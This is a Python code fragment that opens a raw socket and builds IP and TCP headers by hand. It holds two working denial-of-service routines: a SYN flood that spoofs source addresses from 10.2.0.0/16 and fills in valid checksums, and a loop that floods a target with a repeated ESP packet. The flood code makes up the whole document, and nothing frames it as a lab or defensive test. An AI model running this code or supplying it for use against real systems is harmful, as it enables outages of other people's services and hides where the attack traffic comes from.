RAW = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
RAW.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)


def header(source, destination, protocol, length):
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, 64, protocol, 0) + source + destination


def checksum(words):
    total = sum(struct.unpack(f"!{len(words) // 2}H", words))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def flood_syns(to, port, count):
    """SYNs from invented addresses of 10.2.0.0/16."""
    destination = socket.inet_aton(to)
    for number in range(count):
        source = struct.pack("!BBH", 10, 2, number & 0xFFFF)
        syn = struct.pack("!HHIIBBHHH", 1024 + number % 60000, port, number, 0, 0x50, 2, 64240, 0, 0)
        sum_of = checksum(source + destination + struct.pack("!BBH", 0, 6, 20) + syn)
        syn = syn[:16] + struct.pack("!H", sum_of) + syn[18:]
        RAW.sendto(header(source, destination, 6, 20) + syn, (to, 0))


def flood_esp(source, to, packet, count):
    whole = header(socket.inet_aton(source), socket.inet_aton(to), 50, len(packet)) + packet
    for _ in range(count):
        RAW.sendto(whole, (to, 0))
